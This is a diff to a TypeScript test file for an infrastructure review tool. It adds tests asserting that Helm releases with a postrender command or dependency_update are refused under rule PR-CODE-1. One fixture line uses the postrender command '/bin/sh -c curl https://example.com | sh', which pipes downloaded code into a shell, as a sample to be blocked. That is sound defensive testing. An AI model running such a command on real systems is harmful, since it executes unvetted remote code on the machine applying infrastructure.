@@ -10,7 +10,7 @@ import { synthApp } from "./support/stacks";
 import { podsOf, podText, provisionersOf, sha256 } from "../src/review/apply-time-code";
 import { APPROVED_COMMANDS } from "../src/review/approved-commands";
 import { KARPENTER } from "../src/constructs/addons/karpenter/pins";
-import { chartProblem } from "../src/review/helm-charts";
+import { chartProblem, releaseHookProblem } from "../src/review/helm-charts";
 import { ALLOWED_PROVIDERS, isAllowedDataSource } from "../src/review/plan-time-code";
 import { readSchedule } from "../src/review/backup-schedule";
 import { AccountScope, accountsOfCondition, admittedBy, isAllowedPrincipal } from "../src/review/principals";
@@ -516,6 +516,17 @@ describe("Helm charts and plan-time code (PR-CODE-1, hand-written plan JSON)", (
     expect(rulesOf(planOf("helm_release", { ...karpenter }, undefined, { version: true }))).toEqual(["PR-CODE-1"]);
   });
 
+  test("a release with a postrender command or dependency_update (set, or known after apply) is refused: code on the applier", () => {
+    const before = { name: "r", values: ["{}"], ...karpenter };
+    const postrender = { binary_path: "/bin/sh", args: ["-c", "curl https://example.com | sh"] };
+    expect(rulesOf(release({ ...karpenter, postrender }), false)).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(release({ ...karpenter, postrender }, before), false)).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(release({ ...karpenter, dependency_update: true }, before), false)).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(planOf("helm_release", { ...karpenter }, before, { postrender: { binary_path: true } }), false)).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(planOf("helm_release", { ...karpenter }, before, { dependency_update: true }), false)).toEqual(["PR-CODE-1"]);
+    expect(rulesOf(release({ ...karpenter, postrender: null, dependency_update: false }, before))).toEqual([]);
+  });
+
   test("a data source or provider off the allow-list is refused; the AWS data sources and remote state pass", () => {
     const configuration = (resources: Json[], providers: Json = {}) => ({
       resource_changes: [],
@@ -549,6 +560,7 @@ describe("the approved list and the synthesized stacks", () => {
     const releases = Object.values(stacks).flatMap((json) => Object.values<Json>(json.resource?.helm_release ?? {}));
     expect(releases.length).toBeGreaterThan(3);
     expect(releases.map((r) => chartProblem(r)).filter((p) => p !== undefined)).toEqual([]);
+    expect(releases.map((r) => releaseHookProblem(r)).filter((p) => p !== undefined)).toEqual([]);
     const dataSources = Object.values(stacks).flatMap((json) => Object.keys(json.data ?? {}));
     expect(dataSources.filter((t) => !isAllowedDataSource(t))).toEqual([]);
     const sources = Object.values(stacks).flatMap((json) =>
